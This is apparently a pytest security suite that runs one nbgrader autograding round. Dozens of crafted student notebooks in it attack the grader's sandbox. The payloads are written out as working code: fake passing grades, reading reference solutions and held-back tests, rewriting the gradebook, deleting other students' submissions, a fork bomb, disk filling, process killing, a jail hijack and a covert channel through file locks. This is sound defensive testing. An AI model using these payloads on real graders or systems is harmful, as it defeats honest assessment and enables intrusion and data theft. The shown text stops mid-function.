"""Submissions that attack the autograder, through one real nbgrader round.

One module-scoped round on a copy of the course, for lesson1: `generate_assignment`, the roster
imported into the gradebook, one crafted notebook per student written straight into
`submitted/<student>/lesson1/` (each starts from the released notebook), ONE `nbgrader
autograde lesson1`, then `nbgrader generate_feedback lesson1`. Every attacker starts from the
starter, so its code honestly earns 0 on every graded cell, and adds one attack (see ATTACKS).

The autograde command runs in a mount namespace of its own with private /tmp, /var/tmp and
/dev/shm (`private_tmp.py`): what a submission plants or leaves in the shared temporary
folders then reaches only this round's graders, never another process of this machine. The
grader is otherwise untouched: the sandbox it makes (agentlab_magics/grading/) is the one
under test.

An attack that works is marked `xfail(strict=True)` with the reason: the grader file and line it
goes through. Such a test passes once the hole is closed (strict: it then fails, so the mark
must go).
"""

from __future__ import annotations

import copy
import hashlib
import html
import inspect
import itertools
import json
import os
import re
import socket
import subprocess
import sys
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell

from agentlab_magics.checking.runner import lab_tests
from agentlab_magics.course import find_lab
from agentlab_magics.course.heldback import held_back_module
from agentlab_magics.grading.memory_cap import kind_here
from agentlab_magics.grading.output import NOTICE
from agentlab_magics.grading.sandbox import detect, instructor_paths
from tests.nbgrader_course import round_course
from tests.security.forgeries import (
    FINALIZER_PATCH,
    FRAME_FORGER,
    JSON_REWRITTEN,
    LAB_MODULE_CLASS,
    RESTORING_EXACT,
)
from tests.security.private_tmp import keep_arguments

pytest.importorskip("nbgrader")
from nbgrader.api import Gradebook

REPO = Path(__file__).resolve().parents[2]
COURSE = REPO / "nbgrader_course"
HERE = Path(__file__).resolve().parent
LAB = "lesson1"
LESSON = find_lab(LAB)
POINTS = {"tests-lesson1-messages": 4.0, "tests-lesson1-chat": 5.0}
MARK = "agentlab-redteam-7f3a"        # in the command line of every process a submission starts
SLEEP_MARK = "600.13579"              # `sleep 600.13579`: a marked sleep
BOMB_MARK = "600.24680"               # the fork bomb's children
WAIT_AFTER = 6.0                      # seconds to wait after autograde for detached processes
SIZE_CAP = 3_000_000                  # bytes an autograded notebook or a feedback page may have

if os.geteuid() != 0 or detect() != "root":
    pytest.skip("the grader's strongest sandbox needs root and unshare", allow_module_level=True)


# -- what must never reach a page ------------------------------------------------------------

def _code_lines(sources: list[str]) -> list[str]:
    """The distinctive code lines of some test functions: no def, decorator or docstring line
    (a failed test's sentence, its docstring, is on the page by design)."""
    lines = []
    for source in sources:
        in_doc = False
        for line in source.splitlines():
            text = line.strip()
            if text.count('"""') == 1:
                in_doc = not in_doc
                continue
            # (an import line is no secret: the setup cell of every page holds the same one)
            if in_doc or '"""' in text or text.startswith(("def ", "@", "#", "from ", "import ")) \
                    or len(text) < 30:
                continue
            lines.append(text)
    return lines


HELD_BACK_LINES = _code_lines([inspect.getsource(held_back_module(LESSON))])
REFERENCE_LINES = [line.strip() for line in LESSON.reference.splitlines()
                   if line.strip() and line not in LESSON.starter
                   and not line.strip().startswith("def ") and len(line.strip()) >= 25]
TEST_NAMES = [test.name for test in lab_tests(LESSON, held_back=True)]
INSTRUCTOR = instructor_paths()[0] if instructor_paths() else "/nonexistent/agentlab_instructor"


def secret(student: str) -> str:
    """A line only this student's lab cell holds."""
    return f"SECRET-OF-{student}-{hashlib.sha1(student.encode()).hexdigest()[:10]}"


# -- the attacks -----------------------------------------------------------------------------
# Each is (code appended to the lab cell, extra cells placed right after the lab cell, links
# placed in the submission folder). @NAME@ placeholders are filled in when the round is made.
# An attack prints "BREACH:" only when it did something a submission must never do.

GRADE_NOTHING = "def grade(*args, **kwargs):\n    return None\n"

PATCH_RUN = '''
import agentlab_magics.grading as _grading
import agentlab_magics.checking as _checking
import agentlab_magics.checking.runner as _runner
from agentlab_magics.checking.report import CheckReport as _Report, TestOutcome as _Outcome

def _always(lab_id, *args, only=None, **kwargs):
    names = only or ["everything"]
    return _Report(lab_id=lab_id, title="patched", outcomes=[
        _Outcome(name=n, sentence=n, outcome="passed") for n in names])

_grading.run = _checking.run = _runner.run = _always
_grading.grade = lambda *args, **kwargs: None
'''

PYTEST_PLUGIN = '''
import os as _os, sys as _sys, types as _types
try:
    import pytest as _pytest
    _plugin = _types.ModuleType("redteam_plugin")

    @_pytest.hookimpl(hookwrapper=True)
    def pytest_runtest_makereport(item, call):
        outcome = yield
        report = outcome.get_result()
        report.outcome, report.longrepr = "passed", None

    _plugin.pytest_runtest_makereport = pytest_runtest_makereport
    _sys.modules["redteam_plugin"] = _plugin
    _os.environ["PYTEST_ADDOPTS"] = "-p redteam_plugin"
    _os.environ["PYTEST_PLUGINS"] = "redteam_plugin"
except Exception as _error:
    print("no plugin:", type(_error).__name__)
'''

FAKE_TESTS = '''
import sys as _sys, types as _types
_fake = _types.ModuleType("@TESTS_MODULE@")
for _name in @TEST_NAMES@:
    exec(f"def {_name}(harness, record=None):\\n    pass\\n", _fake.__dict__)
_sys.modules["@TESTS_MODULE@"] = _fake
import agentlab_labs.lesson1 as _package
_package.tests = _fake
'''

INPUT_TRANSFORMER = '''
def _rewrite(lines):
    if any("grade(" in line for line in lines):
        return ["print('every test passed')\\n"]
    return lines

get_ipython().input_transformers_cleanup.append(_rewrite)
'''

INSTRUCTOR_EXEC = '''
import importlib.util as _util, os as _os

def _instructor_root():
    try:
        spec = _util.find_spec("agentlab_instructor")
        if spec is not None and spec.submodule_search_locations:
            return list(spec.submodule_search_locations)[0]
    except Exception:
        pass
    return "@INSTRUCTOR@"

try:
    _root = _instructor_root()
    for _part in ("reference/harness.py", "reference/early/lesson1.py"):
        _text = open(_os.path.join(_root, _part), encoding="utf-8").read()
        print("BREACH: read the instructor's", _part)
        exec(compile(_text, "<your cell>", "exec"), globals())
except Exception as _error:
    print("instructor package unreadable:", type(_error).__name__)
'''

ALWAYS_EQUAL = '''
class _Yes(dict):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = None

class _YesText(str):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = str.__hash__

def user_message(text):
    return _Yes(role="user", content=text)

def text_of(message):
    return _YesText("")

def chat(model, system, messages, text):
    messages.append(_Yes())
    return _Yes()
'''

DETACHED_GRADEBOOK = '''
import os, sys
_code = r"""
import os, sqlite3, sys, time
time.sleep(3)
found = ["@COURSE@/gradebook.db"]
folder = os.getcwd()
while folder != "/":
    found.append(os.path.join(folder, "gradebook.db"))
    folder = os.path.dirname(folder)
sql = (
    "UPDATE grade SET manual_score = CASE (SELECT sa.student_id FROM submitted_notebook sn "
    "JOIN submitted_assignment sa ON sn.assignment_id = sa.id WHERE sn.id = grade.notebook_id) "
    "WHEN 'reference' THEN 0 WHEN 'i_detached_gradebook' THEN 100 ELSE manual_score END")
for path in found:
    if os.path.exists(path):
        try:
            db = sqlite3.connect(path, timeout=10)
            db.execute(sql)
            db.commit()
            print("BREACH: wrote", path, file=sys.stderr)
        except Exception:
            pass
time.sleep(600)
"""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", _code, "@MARK@"])
    os._exit(0)
os.wait()
print("detached")
'''

CONFIG_APPEND = '''
import os, pathlib
import agentlab_magics
_paths = ["@COURSE@/nbgrader_config.py"]
_folder = os.getcwd()
while _folder != "/":
    _paths.append(os.path.join(_folder, "nbgrader_config.py"))
    _folder = os.path.dirname(_folder)
for _path in _paths:
    try:
        if _path == _paths[0] or os.path.exists(_path):
            with open(_path, "a") as _file:
                _file.write("\\nc.Autograde.autograde_preprocessors = []  # @MARK@\\n")
            print("BREACH: appended to", _path)
    except OSError as _error:
        print("refused:", _path, type(_error).__name__)
# The checkout's own course configuration: opened for appending, nothing written.
_checkout = pathlib.Path(agentlab_magics.__file__).resolve().parents[1]
try:
    open(_checkout / "nbgrader_course" / "nbgrader_config.py", "a").close()
    print("BREACH: could write the checkout's nbgrader_config.py")
except OSError as _error:
    print("refused: the checkout's config", type(_error).__name__)
'''

DELETE_REFERENCE = '''
import os, shutil
for _target in ["@COURSE@/submitted/reference", "../../reference"]:
    try:
        os.remove(_target + "/lesson1/lesson1.ipynb")
        print("BREACH: removed", _target + "/lesson1/lesson1.ipynb")
    except OSError as _error:
        print("refused:", _target, type(_error).__name__)
    try:
        shutil.rmtree(_target)
        print("BREACH: removed", _target)
    except OSError as _error:
        print("refused:", _target, type(_error).__name__)
'''

READ_OTHER = '''
for _path in ["@COURSE@/submitted/reference/lesson1/lesson1.ipynb",
              "../../reference/lesson1/lesson1.ipynb"]:
    try:
        print("BREACH:", open(_path, encoding="utf-8").read())
    except OSError as _error:
        print("refused:", _path, type(_error).__name__)
'''

BACKGROUND_SLEEP = '''
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "@MARK@"],
                 start_new_session=True)
subprocess.Popen(["sleep", "@SLEEP_MARK@"], start_new_session=True)
print("started")
'''

PRINT_HELD_BACK = '''
import importlib, inspect
try:
    _held = importlib.import_module("agentlab_labs.lesson1.heldback")
    print("BRE" "ACH: the instructor's held-back tests:", inspect.getsource(_held))
except Exception as _error:
    print("instructor package:", type(_error).__name__)
import agentlab_labs.lesson1.tests as _tests
for _name, _function in vars(_tests).items():
    if inspect.isfunction(_function) and getattr(_function, "held_back", False):
        print(inspect.getsource(_function))
print("In:", In)
print("_ih:", _ih)
'''

PRINT_100MB = '''
import sys
_chunk = "x" * 1_000_000
for _ in range(100):
    sys.stdout.write(_chunk)
sys.stdout.flush()
'''

# The grader's sandbox hides the course it grades and the instructor package, but not the
# project the agentlab package is imported from: an editable install (pip install -e .) makes
# that the whole checkout, whose nbgrader_course/source/ (and .git) hold every reference.
CHECKOUT_REFERENCE = '''
import json as _json, pathlib as _pathlib
import agentlab_magics as _package
try:
    _source = (_pathlib.Path(_package.__file__).resolve().parents[1] / "nbgrader_course"
               / "source" / "lesson1" / "lesson1.ipynb")
    for _cell in _json.loads(_source.read_text(encoding="utf-8"))["cells"]:
        _text = "".join(_cell["source"])
        if _text.startswith("%%check lesson1"):
            _body = "\\n".join(line for line in _text.splitlines()[1:]
                              if "### BEGIN SOLUTION" not in line
                              and "### END SOLUTION" not in line)
            exec(compile(_body, "<your cell>", "exec"), globals())
except Exception as _error:
    print("no checkout:", type(_error).__name__)
'''

CHECKOUT_PEEK = '''
import pathlib, agentlab_magics
_checkout = pathlib.Path(agentlab_magics.__file__).resolve().parents[1]
for _part in ["nbgrader_course/source/lesson1/lesson1.ipynb", ".git/HEAD",
              "instructor/agentlab_instructor/reference/harness.py"]:
    try:
        (_checkout / _part).read_bytes()
        print("BREACH: read the checkout's", _part)
    except OSError as _error:
        print("refused:", _part, type(_error).__name__)
import subprocess
# The same through git (committed notebooks, and the index's copy of the instructor package).
for _object, _sign in [("HEAD:nbgrader_course/source/lesson1/lesson1.ipynb", "BEGIN SOLUTION"),
                       (":instructor/agentlab_instructor/reference/early/lesson1.py", "def chat"),
                       ("HEAD:instructor/agentlab_instructor/reference/early/lesson1.py",
                        "def chat")]:
    try:
        _shown = subprocess.run(["git", "-c", "safe.directory=*", "-C", str(_checkout), "show",
                                 _object], capture_output=True, text=True, timeout=20)
        if _sign in _shown.stdout:
            print("BREACH: the checkout's git objects hold", _object)
        else:
            print("git refused:", _object, _shown.returncode)
    except Exception as _error:
        print("no git:", type(_error).__name__)
'''

PROCESSES_AND_SIGNALS = '''
import os, signal
_me, _seen = os.getpid(), []
for _pid in os.listdir("/proc"):
    if not _pid.isdigit():
        continue
    try:
        _command = open(f"/proc/{_pid}/cmdline", "rb").read().replace(b"\\0", b" ").decode()
    except OSError:
        continue
    _seen.append((int(_pid), _command))
    if any(word in _command for word in ("nbgrader", "autograde", "pytest", "grading.jail",
                                          "grading.score", "unshare")):
        print("BREACH: sees the grader:", _pid, _command[:200])
    try:
        if b"@ROUND@" in open(f"/proc/{_pid}/environ", "rb").read():
            print("BREACH: the grader's environment in", _pid)
    except OSError:
        pass
if any("@ROUND@" in value for value in os.environ.values()):
    print("BREACH: the grader's folders in this environment")
print("processes in sight:", len(_seen))
for _pid, _ in _seen:
    if _pid not in (_me, 1):
        try:
            os.kill(_pid, signal.SIGKILL)
        except OSError:
            pass
for _target in (os.getppid(), -1):
    try:
        if _target:
            os.kill(_target, signal.SIGTERM)
    except OSError as _error:
        print("signal refused:", _target, type(_error).__name__)
'''

NETWORK = '''
import socket
for _host in @ADDRESSES@:
    try:
        with socket.create_connection((_host, @PORT@), timeout=2) as _connection:
            _connection.sendall(b"@MARK@")
        print("BREACH: reached", _host)
    except OSError as _error:
        print("no connection to", _host, type(_error).__name__)
try:
    socket.create_connection(("1.1.1.1", 53), timeout=2).close()
    print("BREACH: reached the internet")
except OSError as _error:
    print("no internet:", type(_error).__name__)
'''

FORK_BOMB = '''
import os
_children = 0
try:
    while _children < 3000:
        _pid = os.fork()
        if _pid == 0:
            try:
                os.execvp("sleep", ["sleep", "@BOMB_MARK@"])
            finally:
                os._exit(0)
        _children += 1
except OSError as _error:
    print("fork refused:", type(_error).__name__)
print("CHILDREN", _children)
'''

FILL_DISK = '''
import os
_written = 0
try:
    for _n in range(20):
        with open(f"fill-{_n}.bin", "wb") as _file:
            for _ in range(64):
                _file.write(b"\\0" * (1 << 20))
        _written += 64
except OSError as _error:
    print("scratch full:", type(_error).__name__)
try:
    with open("big.bin", "wb") as _file:
        _file.write(b"\\0" * (100 << 20))
    print("BREACH: a 100 MB file")
except OSError as _error:
    print("file size limit:", type(_error).__name__)
print("MB written", _written)
for _folder in ("/tmp", "/var/tmp", "/dev/shm"):
    try:
        with open(os.path.join(_folder, "redteam-litter"), "w") as _file:
            _file.write("@MARK@")
        print("left a file in", _folder)
    except OSError as _error:
        print("refused:", _folder, type(_error).__name__)
'''

SYMLINK_PEEK = '''
import os
for _name in sorted(os.listdir(".")):
    if _name.startswith("peek-"):
        try:
            print("BREACH:", _name, open(_name, encoding="utf-8", errors="replace").read())
        except OSError as _error:
            print("refused:", _name, type(_error).__name__)
'''

WRITE_GRADED = '''
for _target in ["@COURSE@/autograded/reference/lesson1/lesson1.ipynb",
                "@COURSE@/autograded/reference/lesson1/planted.txt",
                "@COURSE@/source/lesson1/lesson1.ipynb", "@COURSE@/release/lesson1/lesson1.ipynb"]:
    try:
        open(_target, "a").close()
        print("BREACH: could write", _target)
    except OSError as _error:
        print("refused:", _target, type(_error).__name__)
'''

HTML_INJECTION = '''
from IPython.display import HTML, Javascript, display
display(HTML("<script>document.title = '@MARK@-script'</script>"
             "<img src=x onerror=\\"document.title='@MARK@-onerror'\\">"))
display(Javascript("document.title = '@MARK@-javascript'"))
'''

# The grader makes a sandbox's staging folder at a name every sandbox shares:
# jail.expose() uses /tmp/.agentlab-expose-{os.getpid()}, and the jail is pid 1 of its pid
# namespace. /tmp is shared by every sandbox and writable by every grading user.
TMP_PLANT = '''
for _pid in range(1, 4):
    try:
        open(f"/tmp/.agentlab-expose-{_pid}", "w").close()
        print("planted /tmp/.agentlab-expose-%d" % _pid)
    except OSError as _error:
        print("refused:", _pid, type(_error).__name__)
'''

# -- z3: a second round of attacks ----------------------------------------------------------

# The grader starts the kernel's sandbox as `python -m agentlab_magics.grading.jail` with the
# kernel's scratch folder as its working folder (autograde.SandboxedKernelManager), and that
# folder holds a copy of the submission; `python -m` puts the working folder first on
# sys.path. A submission that hands in a folder `agentlab_magics/` of its own therefore runs
# its own code as root, before the jail hides or drops anything. This package records what it
# could reach, then gives way to the real package so the jail and the kernel go on as usual.
JAIL_HIJACK_PACKAGE = '''
import os as _os, sys as _sys
_here = _os.path.dirname(_os.path.dirname(_os.path.abspath(__file__)))
if _os.geteuid() == 0:
    _reached = []
    for _path in ("@COURSE@/submitted/reference/lesson1/lesson1.ipynb",
                  "@INSTRUCTOR@/labs/lesson1/heldback.py"):
        try:
            with open(_path, "rb") as _file:
                _reached.append(f"read {_path} ({len(_file.read())} bytes)")
        except OSError:
            pass
    for _path in ("@COURSE@/gradebook.db", "@COURSE@/nbgrader_config.py"):
        try:
            open(_path, "r+b").close()  # opened for writing, nothing written or made
            _reached.append(f"could write {_path}")
        except OSError:
            pass
    if _reached:
        with open(_os.path.join(_here, "jail-hijack.txt"), "w") as _file:
            _file.write("; ".join(_reached))
_sys.path[:] = [p for p in _sys.path if _os.path.abspath(p or _os.curdir) != _here]
del _sys.modules[__name__]
import importlib as _importlib
_sys.modules[__name__] = _importlib.import_module(__name__)
'''

JAIL_HIJACK_REPORT = '''
try:
    print("BREACH: root code ran before the jail:", open("jail-hijack.txt").read())
except OSError as _error:
    print("no hijack:", type(_error).__name__)
'''

# The load's problem sentence ("Running <your cell> raised ...") carries the exception's own
# message: were the held-back tests anywhere the student's process could read them (imported,
# or on disk), raising their text while loading would put it on the graded cell's report.
HELD_BACK_PROBLEM_LEAK = '''
def _held_back_text():
    try:
        import inspect as _inspect
        import agentlab_labs.lesson1.heldback as _hidden
        return _inspect.getsource(_hidden)
    except Exception:
        return None

_text = _held_back_text()
if _text is not None:
    _lines = [_line.strip() for _line in _text.splitlines()
              if len(_line.strip()) >= 30 and not _line.strip().startswith(('"""', "def "))]
    raise RuntimeError("\\n".join(_lines)[:1900])
'''

# The kernel is the student's: it may send one iopub message whose JSON is small to make and
# send (one empty list referenced 30 million times, ~120 MB) but huge to decode (30 million
# distinct lists, ~2 GB). The grader's nbclient decodes the whole message (jupyter_client
# Session.deserialize) before ScoredOutside.output weighs it against received_limit, and then
# json.dumps it again to weigh it: the root grader process pays all of that.
ZMQ_AMPLIFY = '''
from IPython.display import publish_display_data
publish_display_data({"text/plain": "amplified"}, metadata={"redteam": [[]] * 30_000_000})
print("sent")
'''

# Scoring runs while the kernel does (autograde.ScoredOutside): the kernel hunts, for as long
# as scoring takes, for a student process's scratch folder to plant something in and for a
# process of the scoring (the judge, in nbgrader's process, or a student process) to stop.
# Each lives in namespaces of its own, under another user.
HUNT_THE_SCORER = '''
import glob, os, signal, time
_mine = os.path.realpath(os.getcwd())
_deadline = time.monotonic() + 4
while time.monotonic() < _deadline:
    for _dir in glob.glob("/tmp/agentlab-grade-*") + glob.glob("/tmp/*/agentlab-grade-*"):
        if os.path.realpath(_dir) != _mine:
            try:
                with open(os.path.join(_dir, "report.json"), "w") as _file:
                    _file.write("forged")
                print("BREACH: wrote into", _dir)
            except OSError:
                pass
    for _pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            _command = open(f"/proc/{_pid}/cmdline", "rb").read()
        except OSError:
            continue
        if b"student_side" in _command or b"nbgrader" in _command:
            print("BREACH: sees the scoring", _pid)
            try:
                os.kill(int(_pid), signal.SIGSTOP)
            except OSError:
                pass
    time.sleep(0.05)
print("hunted")
'''


# -- z7: a third round: around the walls --------------------------------------------------------

# Every sandbox sees the stdlib's this.py, and a lock on it is seen from any process of the
# machine. The lab cell, run by the held-back checks' student process, sets a lock per bit of
# what it is handed; the kernel's cell, alive in another sandbox while the grader scores,
# reads them and prints what it read (the held-back inputs, on the feedback page). Its code
# earns 0: its functions return nothing.
LOCK_LEAK = r"""
import fcntl as _fcntl, json as _json, os as _os, struct as _struct, time as _time

def _leak(value):
    try:
        handle = _os.open(_os.path.join(_os.path.dirname(_os.__file__), "this.py"), _os.O_RDONLY)
        data = _json.dumps(value, default=str).encode()[:200] + b"\0"
        for index, byte in enumerate(data):
            for bit in range(8):
                if byte >> bit & 1:
                    _fcntl.fcntl(handle, _fcntl.F_SETLK, _struct.pack(
                        "hhqqi", _fcntl.F_RDLCK, 0, 9001 + 8 * index + bit, 1, 0))
        _fcntl.fcntl(handle, _fcntl.F_SETLK, _struct.pack("hhqqi", _fcntl.F_RDLCK, 0, 9000, 1, 0))
        _time.sleep(0.3)
        _os.close(handle)
    except Exception:
        pass

def user_message(text):
    _leak(text)

def chat(model, system, messages, text):
    _leak([messages, text])
"""
LOCK_LISTEN = r"""
import fcntl, os, struct, time
_handle = os.open(os.path.join(os.path.dirname(os.__file__), "this.py"), os.O_RDONLY)
def _held(offset):
    probe = struct.pack("hhqqi", fcntl.F_WRLCK, 0, offset, 1, 0)
    return struct.unpack("hhqqi", fcntl.fcntl(_handle, fcntl.F_GETLK, probe))[0] != fcntl.F_UNLCK
_seen, _until = set(), time.monotonic() + 8
while time.monotonic() < _until:
    if _held(9000):
        _data = bytearray()
        for _index in range(201):
            _byte = sum(1 << bit for bit in range(8) if _held(9001 + 8 * _index + bit))
            if not _byte:
                break
            _data.append(_byte)
        _seen.add(_data.decode(errors="replace"))
    time.sleep(0.005)
print("LEAKED:", sorted(_seen))
print("listened")
"""
HELD_BACK_INPUTS = ["Lies la Datei", "I write compilers"]  # what the held-back tests hand over

# Outputs nbclient takes before anything weighs them: errors, which were let past a cell's share
# ("errors always"), and display updates, which change every output of their display id.
ERROR_FLOOD = r"""
_kernel = get_ipython().kernel
_big = "E" * 1_900_000
for _ in range(60):
    _kernel.session.send(_kernel.iopub_socket, "error",
                         {"ename": "Flood", "evalue": _big, "traceback": [_big]},
                         parent=_kernel.get_parent("shell"))
print("flooded")
"""
UPDATE_FLOOD = r"""
from IPython.display import display, update_display
for _ in range(150):
    display({"text/plain": "small"}, raw=True, display_id="flood")
update_display({"text/plain": "U" * 3_000_000}, raw=True, display_id="flood")
print("updated")
"""
# Signed iopub messages of kinds no notebook shows: one whose kind holds a lone surrogate (which
# a log written as strict UTF-8 cannot take), and big ones, whose kind nbclient logs in full.
ODD_MESSAGES = r"""
import json
_kernel = get_ipython().kernel
_session, _parent = _kernel.session, _kernel.get_parent("shell")
def _send(kind_json):
    header = ('{"msg_id": "odd", "msg_type": %s, "username": "x", "session": "%s", '
              '"date": "2026-12-06T00:00:00Z", "version": "5.3"}'
              % (kind_json, _session.session)).encode()
    parts = [header, json.dumps(_parent["header"], default=str).encode(), b"{}", b"{}"]
    _kernel.iopub_socket.send_multipart([b"kernel.odd", b"<IDS|MSG>", _session.sign(parts),
                                         *parts])
_send('"odd-\\ud800-kind"')
for _ in range(20):
    _send('"' + "k" * 3_000_000 + '"')
print("sent odd")
"""
# A kernel that takes more memory than a submission's grading may have: its grading is killed,
# it alone is not graded, and what it left is swept.
MEMORY_HOG = r"""
_hog = b"h" * (1_400 << 20)
print("held", len(_hog))
"""

@dataclass
class Attack:
    lab_tail: str = ""
    cells: list[str] = field(default_factory=list)
    links: dict[str, str] = field(default_factory=dict)
    files: dict[str, str] = field(default_factory=dict)  # more plain files, by relative path


ATTACKS: dict[str, Attack] = {
    "a_grade_in_lab_cell": Attack(lab_tail=GRADE_NOTHING),
    "b_grade_in_extra_cell": Attack(cells=[GRADE_NOTHING]),
    "c_patch_run": Attack(lab_tail=PATCH_RUN, cells=[PATCH_RUN]),
    "d_pytest_plugin": Attack(lab_tail=PYTEST_PLUGIN, cells=[PYTEST_PLUGIN]),
    "e_fake_labtests": Attack(lab_tail=FAKE_TESTS, cells=[FAKE_TESTS]),
    "f_input_transformer": Attack(cells=[INPUT_TRANSFORMER]),
    "g_instructor_exec": Attack(lab_tail=INSTRUCTOR_EXEC, cells=[INSTRUCTOR_EXEC]),
    "h_always_equal": Attack(lab_tail=ALWAYS_EQUAL),
    "i_detached_gradebook": Attack(cells=[DETACHED_GRADEBOOK]),
    "j_config_append": Attack(cells=[CONFIG_APPEND]),
    "k_delete_reference": Attack(cells=[DELETE_REFERENCE]),
    "l_read_other": Attack(cells=[READ_OTHER]),
    "m_background_sleep": Attack(cells=[BACKGROUND_SLEEP]),
    "n_print_held_back": Attack(cells=[PRINT_HELD_BACK]),
    "o_print_100mb": Attack(cells=[PRINT_100MB]),
    # our own
    "p_frame_forger": Attack(lab_tail=FRAME_FORGER),
    "q_checkout_reference": Attack(lab_tail=CHECKOUT_REFERENCE, cells=[CHECKOUT_PEEK]),
    "s_processes_signals": Attack(cells=[PROCESSES_AND_SIGNALS]),
    "t_network": Attack(cells=[NETWORK]),
    "u_fork_bomb": Attack(cells=[FORK_BOMB]),
    "v_fill_disk": Attack(cells=[FILL_DISK]),
    "w_symlinks": Attack(cells=[SYMLINK_PEEK], links={
        "peek-reference.txt": "@COURSE@/submitted/reference/lesson1/lesson1.ipynb",
        "peek-instructor.txt": "@INSTRUCTOR@/reference/early/lesson1.py"}),
    # the notebook itself a link to another student's: nbgrader reads it, as root
    "w_symlinked_notebook": Attack(links={
        f"{LAB}.ipynb": f"@COURSE@/submitted/reference/{LAB}/{LAB}.ipynb"}),
    "x_html_injection": Attack(cells=[HTML_INJECTION]),
    "y_write_graded": Attack(cells=[WRITE_GRADED]),  # after "reference": its autograded/ exists
    "z3_jail_hijack": Attack(cells=[JAIL_HIJACK_REPORT], files={
        "agentlab_magics/__init__.py": JAIL_HIJACK_PACKAGE}),
    "z3_held_back_problem_leak": Attack(lab_tail=HELD_BACK_PROBLEM_LEAK),
    "z3_restoring_exact": Attack(lab_tail=RESTORING_EXACT),
    "z3_lab_module_class": Attack(lab_tail=LAB_MODULE_CLASS),
    "z3_zmq_amplify": Attack(cells=[ZMQ_AMPLIFY]),
    # patches of the course's modules in the student's process (forgeries.py)
    "z4_finalizer_patch": Attack(lab_tail=FINALIZER_PATCH),
    "z5_hunt_the_scorer": Attack(cells=[HUNT_THE_SCORER]),
    "z6_json_rewritten": Attack(lab_tail=JSON_REWRITTEN),
    "z7_lock_leak": Attack(lab_tail=LOCK_LEAK, cells=[LOCK_LISTEN]),
    "z8_error_flood": Attack(cells=[ERROR_FLOOD]),
    "z8_update_flood": Attack(cells=[UPDATE_FLOOD]),
    "z9_odd_messages": Attack(cells=[ODD_MESSAGES]),
    "z9_memory_hog": Attack(cells=[MEMORY_HOG]),
    "zz1_tmp_plant": Attack(lab_tail=TMP_PLANT, cells=[TMP_PLANT]),
}
VICTIM = "zz2_victim"          # the reference's code, graded right after zz1_tmp_plant
HONEST = {"reference": LESSON.reference, VICTIM: LESSON.reference, "honest_starter": None}
STUDENTS = sorted([*ATTACKS, *HONEST])
OWN_CODE_IS_REFERENCE = {"reference", VICTIM}


# -- the round ------------------------------------------------------------------------------

@dataclass
class Round:
    folder: Path
    course: Path
    autograde_code: int
    autograde_log: str
    feedback_code: int
    feedback_log: str
    left_over: list
    max_rss_kib: int
    ran_out: bool        # whether the round's own memory cap killed any process of it
    cgroups_left: list   # cgroups left inside the round's
    grader_rss_kib: int  # the largest resident size of nbgrader's own process
    db_after: bytes
    db_later: bytes
    hashes_before: dict[str, str]
    hashes_after: dict[str, str]
    processes: list[str]
    connections: list[bytes]
    grades: dict[str, dict[str, tuple]]

    def autograded(self, student: str) -> Path:
        return self.course / "autograded" / student / LAB / f"{LAB}.ipynb"

    def feedback(self, student: str) -> Path:
        return self.course / "feedback" / student / LAB / f"{LAB}.html"

    def outputs(self, student: str) -> str:
        """Every output text of the student's autograded notebook."""
        path = self.autograded(student)
        if not path.exists():
            return ""
        return json.dumps([cell.get("outputs", []) for cell in
                           nbformat.read(path, as_version=4).cells], ensure_ascii=False)

    def page(self, student: str) -> str:
        """The student's feedback page as text: tags dropped, entities unescaped."""
        path = self.feedback(student)
        return html.unescape(re.sub(r"<[^>]+>", "", path.read_text(encoding="utf-8"))) \
            if path.exists() else ""

    def raw_page(self, student: str) -> str:
        path = self.feedback(student)
        return path.read_text(encoding="utf-8") if path.exists() else ""


def _fill(text: str, values: dict[str, str]) -> str:
    for key, value in values.items():
        text = text.replace(f"@{key}@", value)
    return text


def _hashes(folder: Path) -> dict[str, str]:
    return {str(path.relative_to(folder)): hashlib.sha256(path.read_bytes()).hexdigest()
            for path in sorted(folder.rglob("*")) if path.is_file() and not path.is_symlink()}


def _submission(released, student: str, values: dict[str, str]):
    nb = copy.deepcopy(released)
    index, cell = next((i, c) for i, c in enumerate(nb.cells)
                       if c.cell_type == "code" and c.source.startswith(f"%%check {LAB}"))
    code = HONEST.get(student, "")
    if code:
        cell.source = f"%%check {LAB}\n# {secret(student)}\n{code}"
    elif student in ATTACKS:
        attack = ATTACKS[student]
        cell.source += f"\n# {secret(student)}\n" + _fill(attack.lab_tail, values)
        for offset, extra in enumerate(attack.cells, start=1):
            nb.cells.insert(index + offset, new_code_cell(_fill(extra, values)))
    return nb


def _marked_processes() -> list[str]:
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            command = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(
                errors="replace")
        except OSError:
            continue
        if any(mark in command for mark in (MARK, SLEEP_MARK, BOMB_MARK)) \
                and "pytest" not in command:
            found.append(f"{pid}: {command[:200]}")
    return found


class Listener:
    """A TCP server on every address of this machine, counting what reaches it."""

    def __init__(self) -> None:
        self.server = socket.socket()
        self.server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.server.bind(("0.0.0.0", 0))
        self.server.listen(16)
        self.server.settimeout(0.5)
        self.port = self.server.getsockname()[1]
        self.received: list[bytes] = []
        self.done = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.done.is_set():
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            with connection:
                connection.settimeout(1)
                try:
                    self.received.append(connection.recv(100) or b"<connected>")
                except OSError:
                    self.received.append(b"<connected>")

    def close(self) -> None:
        self.done.set()
        self.thread.join(5)
        self.server.close()


def _addresses() -> list[str]:
    """127.0.0.1 and this machine's own IPv4 addresses (the LOCAL entries of the FIB)."""
    found = {"127.0.0.1"}
    try:
        lines = Path("/proc/net/fib_trie").read_text().splitlines()
        for before, line in itertools.pairwise(lines):
            if "/32 host LOCAL" in line:
                found.add(before.split()[-1])
    except OSError:
        pass
    try:
        for info in socket.getaddrinfo(socket.gethostname(), None, socket.AF_INET):
            found.add(info[4][0])
    except OSError:
        pass
